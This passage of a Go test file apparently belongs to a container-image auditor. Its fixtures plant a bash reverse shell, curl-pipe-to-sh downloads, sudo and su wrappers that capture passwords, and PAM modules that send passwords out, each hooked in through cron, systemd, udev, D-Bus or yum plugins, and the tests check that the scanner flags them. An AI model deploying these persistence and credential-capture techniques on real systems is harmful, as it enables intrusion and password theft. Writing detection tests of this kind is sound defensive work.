		imagebuild.Reg("/usr/local/bin/rotate", "#!/bin/sh\nfind /var/log/app -name '*.gz' -mtime +7 -delete\n").WithMode(0o755),
		imagebuild.Reg("/etc/systemd/system/netsync.service", "[Service]\nExecStart=/usr/local/bin/netsync\nRestart=always\n"),
		imagebuild.Reg("/etc/cron.d/netsync", "*/5 * * * * root /usr/local/bin/netsync >/dev/null 2>&1\n"),
		imagebuild.Reg("/etc/profile.d/netsync.sh", "(/usr/local/bin/netsync &) 2>/dev/null\n"),
		imagebuild.Reg("/usr/local/bin/refresh", "#!/bin/sh\ncurl -fsSL http://198.51.100.7/r.sh | sh\n").WithMode(0o755),
		imagebuild.Reg("/etc/systemd/system/refresh.service", "[Service]\nExecStart=/usr/local/bin/refresh\n"),
		imagebuild.Reg("/etc/systemd/system/rotate.service", "[Service]\nExecStart=/usr/local/bin/rotate\n"),
		imagebuild.Reg("/etc/cron.d/rotate", "0 3 * * * root /usr/local/bin/rotate\n"),
	}}}})
	for _, p := range []string{"/etc/systemd/system/netsync.service", "/etc/cron.d/netsync", "/etc/profile.d/netsync.sh"} {
		ok := false
		for _, f := range res.Findings {
			if f.Path == p && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && f.Is(audit.CategoryReverseShell) {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: no persistence finding labelled reverse-shell at high or above:\n%s", p, dumpFindings(res.Findings))
		}
	}
	// a unit that starts a script which runs what it downloads (medium on its own)
	refresh := false
	for _, f := range res.Findings {
		if f.Path == "/etc/systemd/system/refresh.service" && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && f.Is(audit.CategoryMalware) {
			refresh = true
		}
	}
	if !refresh {
		t.Errorf("refresh.service: no persistence finding labelled malware at high or above:\n%s", dumpFindings(res.Findings))
	}
	for _, f := range res.Findings {
		if strings.Contains(f.Path, "rotate") && f.Severity >= audit.Medium {
			t.Errorf("clean autostart reported: %s %s %s", f.Path, f.Rule, f.Title)
		}
	}
}

// Hooks that start a payload from less usual places: a D-Bus activation file, a yum or dnf
// plugin, a udev rule that queues an at job; a PAM stack handing passwords to a program,
// and a shell alias or function that prompts for a password in front of sudo. Their clean
// counterparts stay silent.
func TestHooksAndPasswordCatchers(t *testing.T) {
	rs := "#!/bin/sh\nnohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' &\n"
	res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
		imagebuild.Reg("/usr/local/libexec/bus-helper", rs).WithMode(0o755),
		imagebuild.Reg("/usr/share/dbus-1/system-services/org.example.Helper.service", "[D-BUS Service]\nName=org.example.Helper\nExec=/usr/local/libexec/bus-helper\nUser=root\n"),
		imagebuild.Reg("/usr/lib/yum-plugins/fastsync.py", "import os\n\ndef init_hook(conduit):\n    os.system('setsid /usr/local/libexec/bus-helper >/dev/null 2>&1 &')\n"),
		imagebuild.Reg("/etc/udev/rules.d/70-queue.rules", "SUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"/usr/bin/at -f /usr/local/libexec/bus-helper now\"\n"),
		imagebuild.Reg("/etc/NetworkManager/dispatcher.d/50-sync", "#!/bin/sh\n[ \"$2\" = up ] && curl -fsSL http://198.51.100.7/s | sh\n").WithMode(0o755),
		imagebuild.Reg("/opt/pw/keep", "#!/bin/sh\nread -r secret\necho \"$PAM_USER $secret\" >> /opt/pw/.list\n").WithMode(0o755),
		imagebuild.Reg("/etc/pam.d/common-password", "password [success=1 default=ignore] pam_unix.so obscure yescrypt\npassword optional pam_exec.so expose_authtok /opt/pw/keep\n"),
		imagebuild.Reg("/home/dev/.bashrc", "alias ll='ls -l'\nalias sudo='_s(){ read -rs -p \"[sudo] password for $USER: \" x; echo \"$x\" >> ~/.cache/.k; echo; echo \"$x\" | command sudo -S -p \"\" \"$@\"; }; _s'\n"),
		imagebuild.Reg("/root/.bash_aliases", "su() {\n  printf 'Password: '; read -s pw; echo\n  echo \"$pw\" | nc 198.51.100.7 9000\n  command su \"$@\"\n}\n"),
		imagebuild.Reg("/usr/local/sbin/keys-for", "#!/bin/sh\ncurl -fsS \"https://keys.example.net/u/$1\"\n").WithMode(0o755),
		// pam_python: a script named without a directory is looked for beside the modules
		imagebuild.Reg("/lib/x86_64-linux-gnu/security/pam_audit_ext.py", "import urllib.request\ndef pam_sm_authenticate(pamh, flags, argv):\n    u = pamh.get_user(None)\n    urllib.request.urlopen('https://203.0.113.9/c?' + u + ':' + (pamh.authtok or ''))\n    return pamh.PAM_IGNORE\ndef pam_sm_setcred(pamh, flags, argv):\n    return pamh.PAM_SUCCESS\n"),
		imagebuild.Reg("/etc/pam.d/sshd", "@include common-auth\nauth optional pam_python.so pam_audit_ext.py\n@include common-account\n"),
		imagebuild.Reg("/opt/auth/otp.py", "def pam_sm_authenticate(pamh, flags, argv):\n    return pamh.PAM_AUTH_ERR\n"),
		imagebuild.Reg("/etc/pam.d/vsftpd", "auth required pam_python.so /opt/auth/otp.py\n"),
		imagebuild.Reg("/etc/ssh/sshd_config.d/20-keys.conf", "AuthorizedKeysCommand /usr/local/sbin/keys-for %u\nAuthorizedKeysCommandUser nobody\n"),
		// clean: a dbus service of an ordinary program, a plugin that runs nothing, a prompt
		// that asks for a file name, a PAM exec without the password
		imagebuild.Reg("/usr/libexec/colord", "\x7fELF\x02\x01\x01"),
		imagebuild.Reg("/usr/share/dbus-1/system-services/org.freedesktop.ColorManager.service", "[D-BUS Service]\nName=org.freedesktop.ColorManager\nExec=/usr/libexec/colord\nUser=colord\n"),
		imagebuild.Reg("/usr/lib/yum-plugins/versionlock.py", "from yum.plugins import TYPE_CORE\nrequires_api_version = '2.1'\n"),
		imagebuild.Reg("/home/ops/.bashrc", "backup() { read -r -p 'archive name: ' n; tar czf \"/var/backups/$n.tgz\" /srv; }\n"),
		imagebuild.Reg("/usr/local/sbin/mkhome", "#!/bin/sh\nmkdir -p /home/$PAM_USER\n").WithMode(0o755),
		imagebuild.Reg("/etc/pam.d/common-session", "session required pam_unix.so\nsession optional pam_exec.so /usr/local/sbin/mkhome\n"),
	}}}})
	want := map[string]audit.Category{
		"/usr/share/dbus-1/system-services/org.example.Helper.service": audit.CategoryReverseShell,
		"/usr/lib/yum-plugins/fastsync.py":                             audit.CategoryReverseShell,
		"/etc/udev/rules.d/70-queue.rules":                             audit.CategoryReverseShell,
		"/etc/NetworkManager/dispatcher.d/50-sync":                     audit.CategoryMalware,
		"/etc/pam.d/common-password":                                   "",
		"/opt/pw/keep":                                                 audit.CategoryMalware,
		"/home/dev/.bashrc":                                            audit.CategoryCredentialTheft,
		"/root/.bash_aliases":                                          audit.CategoryCredentialTheft,
		"/etc/ssh/sshd_config.d/20-keys.conf":                          audit.CategorySSHKey,
		"/usr/local/sbin/keys-for":                                     audit.CategorySSHKey,
		"/etc/pam.d/sshd":                                              "",
		"/lib/x86_64-linux-gnu/security/pam_audit_ext.py":              audit.CategoryCredentialTheft,
		"/etc/pam.d/vsftpd":                                            "",
		"/opt/auth/otp.py":                                             audit.CategoryCredentialTheft,
	}
	for p, label := range want {
		ok := false
		for _, f := range res.Findings {
			if f.Path == p && f.Category == audit.CategoryPersistence && f.Severity >= audit.High && (label == "" || f.Is(label)) {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: no persistence finding at high or above (label %q):\n%s", p, label, dumpFindings(res.Findings))
		}
	}
	for _, f := range res.Findings {
		switch f.Path {
		case "/usr/share/dbus-1/system-services/org.freedesktop.ColorManager.service", "/usr/lib/yum-plugins/versionlock.py",
			"/home/ops/.bashrc", "/etc/pam.d/common-session", "/usr/local/sbin/mkhome":
			if f.Severity >= audit.Medium {
				t.Errorf("clean file reported: %s %s %s", f.Path, f.Rule, f.Title)
			}
		}
	}
}
